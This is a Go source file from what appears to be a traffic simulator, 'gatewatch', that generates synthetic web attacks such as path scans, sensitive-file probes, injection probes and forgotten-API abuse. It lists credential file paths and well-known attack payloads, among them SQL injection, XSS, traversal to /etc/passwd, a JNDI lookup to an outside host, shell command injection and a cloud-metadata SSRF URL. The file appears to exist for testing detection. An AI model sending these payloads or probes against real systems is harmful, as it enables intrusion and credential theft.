package attack

import (
	"net/netip"
	"strconv"
	"time"

	"gatewatch/internal/app/simulate/dice"
	"gatewatch/internal/app/simulate/internet"
	"gatewatch/internal/app/simulate/scene"
	"gatewatch/internal/app/simulate/site"
)

// words are what wordlists are made of.
var (
	words  = [...]string{"admin", "backup", "old", "test", "dev", "staging", "api", "private", "config", "data", "db", "files", "upload", "tmp", "logs", "portal", "panel", "server", "secret", "user", "users", "export", "import", "report", "stats", "status", "console", "manage", "manager", "system", "service", "internal", "hidden", "archive", "bak", "install", "setup", "web", "site", "home2", "cgi-bin", "scripts", "lib", "vendor", "storage", "cache", "dump", "sql"}
	ending = [...]string{"", "", "", "/", ".php", ".bak", ".zip", ".old", ".txt", ".json", ".sql", ".tar.gz"}

	sensitive = [...]string{
		"/.env", "/.git/config", "/.git/HEAD", "/.aws/credentials", "/wp-config.php.bak", "/.env.production", "/config.json", "/.ssh/id_rsa",
		"/backup.sql", "/.htpasswd", "/actuator/env", "/actuator/heapdump", "/server-status", "/phpinfo.php", "/.svn/entries", "/docker-compose.yml",
		"/.DS_Store", "/web.config", "/.npmrc", "/id_rsa", "/dump.sql", "/.vscode/sftp.json", "/api/.env", "/storage/logs/laravel.log",
	}
)

// wordAt is the n-th path of a wordlist.
func wordAt(n int) string {
	x := dice.Mix(uint64(n) ^ 0x3d) //nolint:gosec // not negative
	path := "/" + words[n%len(words)]
	if n >= len(words) {
		path += "/" + words[x%uint64(len(words))]
	}
	if n >= len(words)*12 {
		path += strconv.Itoa(n / 100)
	}
	return path + ending[x>>32%uint64(len(ending))]
}

// tryWords tries the paths of a wordlist, each attacker from another place of it on.
func (p *plan) tryWords() shot {
	first := p.d.IntN(10 * len(words))
	return func(s *scene.Scene, a *attacker, from *internet.Client) {
		s.Site.Stray(&a.q, from, site.Web, wordAt(first+a.n))
		if a.d.Chance(.02) {
			a.q.Status = 403
		}
	}
}

// scans look for what is there.
func scans() []Attack {
	return []Attack{
		{
			Name: "path_scan", Family: recon, About: "One client tries the paths of a wordlist, as fast as they are answered.", lasts: time.Hour,
			plan: func(p *plan) {
				p.launch(p.from(internet.Hosting, 1, internet.Wordlist), p.many(2500), 50*time.Millisecond, p.tryWords())
			},
		},
		{
			Name: "path_scan_slow", Family: recon, About: "One client tries the paths of a wordlist, one every few minutes.", slow: true, lasts: 36 * time.Hour,
			plan: func(p *plan) {
				p.launch(p.from(internet.Hosting, 1, internet.Masked), p.many(260), 6*time.Minute, p.tryWords())
			},
		},
		{
			Name: "path_scan_spread", Family: recon, About: "The clients of one /24 network share the paths of a wordlist.", lasts: 3 * time.Hour,
			plan: func(p *plan) {
				from := p.neighbours(64, internet.Masked)
				prefix := netip.PrefixFrom(from[0].Addr, 24).Masked()
				p.campaign.About("prefix", prefix.String())
				p.launch(from, p.many(1900), 3*time.Second, p.tryWords())
			},
		},
		{
			Name: "sensitive_spread", Family: recon, About: "Hundreds of clients ask for files that should not be there, each for two or three.", slow: true, lasts: 36 * time.Hour,
			plan: func(p *plan) {
				n := p.many(320)
				p.launch(p.from(internet.Hosting, n, internet.Bulk), n*5/2, 110*time.Second, func(s *scene.Scene, a *attacker, from *internet.Client) {
					s.Site.Stray(&a.q, from, site.Web, sensitive[a.d.IntN(len(sensitive))])
				})
			},
		},
		{
			Name: "injection_probe", Family: injects, About: "One client puts SQL, scripts and paths into parameters.", lasts: time.Hour,
			plan: func(p *plan) {
				p.launch(p.from(internet.Hosting, 1, internet.Scanner), p.many(240), 600*time.Millisecond, inject)
			},
		},
		{
			Name: "shadow_api", Family: misuse, About: "One client calls what is not meant for the public, and gets answers.", lasts: time.Hour,
			plan: func(p *plan) {
				hidden := []site.ID{site.Debug, site.Metrics, site.AdminUsers, site.AdminUsers}
				for _, id := range hidden {
					p.endpoint(id)
				}
				p.launch(p.from(internet.Hosting, 1, internet.Bulk), p.many(90), 15*time.Second, func(s *scene.Scene, a *attacker, from *internet.Client) {
					s.Site.Ask(&a.q, from, hidden[a.n%len(hidden)], 0, uint64(a.n)) //nolint:gosec // not negative
				})
			},
		},
		{
			Name: "deprecated_api", Family: misuse, About: "One client reads through a version of the API that was forgotten to be turned off.", lasts: 2 * time.Hour,
			plan: func(p *plan) {
				forgotten := []site.ID{site.OldOrders, site.OldUser}
				p.launch(p.from(internet.Hosting, 1, internet.Bulk), p.many(500), 4*time.Second, func(s *scene.Scene, a *attacker, from *internet.Client) {
					s.Site.Ask(&a.q, from, forgotten[a.n%2], site.AnyOrder(a.d.Uint64()), 0)
				})
			},
		},
	}
}

// payloads are what scanners put into parameters, encoded as they send it.
var payloads = [...]string{
	"1%27%20OR%20%271%27=%271", "1%20UNION%20SELECT%20NULL,username,password%20FROM%20users--", "%27;WAITFOR%20DELAY%20%270:0:5%27--",
	"1%20AND%20SLEEP(5)", "%3Cscript%3Ealert(1)%3C/script%3E", "%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", "../../../../etc/passwd",
	"..%2f..%2f..%2f..%2fetc%2fpasswd", "%24%7Bjndi:ldap://203.0.113.66/a%7D", "%7B%7B7*7%7D%7D", ";cat%20/etc/passwd", "%60id%60",
	"http://169.254.169.254/latest/meta-data/", "php://filter/convert.base64-encode/resource=index.php", "1)%20OR%20(1=1", "admin%27--",
}

func inject(s *scene.Scene, a *attacker, from *internet.Client) {
	s.Site.Ask(&a.q, from, site.Search, 0, 1)
	a.q.Query = append(append(a.q.Query[:0], "q="...), payloads[a.d.IntN(len(payloads))]...)
	switch {
	case a.d.Chance(.25):
		a.q.Status = 400
	case a.d.Chance(.2):
		a.q.Status = 500
	case a.d.Chance(.2):
		a.q.Status = 403
	}
}
